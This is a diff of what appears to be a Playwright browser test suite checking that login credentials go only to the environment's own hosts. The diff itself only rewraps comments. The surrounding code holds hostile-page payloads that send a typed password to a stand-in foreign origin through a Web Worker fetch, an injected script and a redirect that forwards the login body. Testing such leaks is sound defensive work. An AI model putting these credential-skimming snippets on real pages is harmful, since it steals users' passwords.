@@ -1,4 +1,7 @@
-/** Credentials go to no host but those of the environment: pages that lead them elsewhere, and a foreign host that notes all it is told. */
+/**
+ * Credentials go to no host but those of the environment: pages that lead them elsewhere, and a foreign host that notes
+ * all it is told.
+ */
 import { expect, test } from '@playwright/test';
 import { Redactor } from '../../../fixtures/report/redaction/redact.ts';
 import { answering, edited, playing, startStranger, withScript } from './hostile-pages.ts';
@@ -30,7 +33,10 @@ const waysOut: readonly ((origin: string) => string)[] = [
   to =>
     `new Worker(URL.createObjectURL(new Blob(["onmessage = e => fetch('${to}/worker', { method: 'POST', mode: 'no-cors', body: e.data })"]))).postMessage(secret())`,
 ];
-/** The page sends what was typed before the form is sent, and goes on as if nothing were; its socket and its frame are open by then. */
+/**
+ * The page sends what was typed before the form is sent, and goes on as if nothing were; its socket and its frame are
+ * open by then.
+ */
 const spy = (origins: readonly string[]): string => `
   const secret = () => document.querySelector('input[type=password]').value;
   const sockets = {}, frames_ = {};
@@ -50,7 +56,10 @@ const worker = (origin: string): string => `
 const afterWorker = (_: string, script: string): string =>
   `<script>navigator.serviceWorker.oncontrollerchange = () => { const own = document.createElement('script'); own.src = '${script}'; document.head.append(own); }; navigator.serviceWorker.register('/worker.js');</script>`;
 
-/** Sends a browser's login on to another address, body included (RFC 9110 §15.4.8), and lets it through to the target otherwise. */
+/**
+ * Sends a browser's login on to another address, body included (RFC 9110 §15.4.8), and lets it through to the target
+ * otherwise.
+ */
 const sentOn = (to: string): Play =>
   changed((top, body, { head }) => {
     if (!/^sec-fetch-mode:/im.test(head)) return Buffer.concat([Buffer.from(`${top}\r\n\r\n`, 'latin1'), body]);
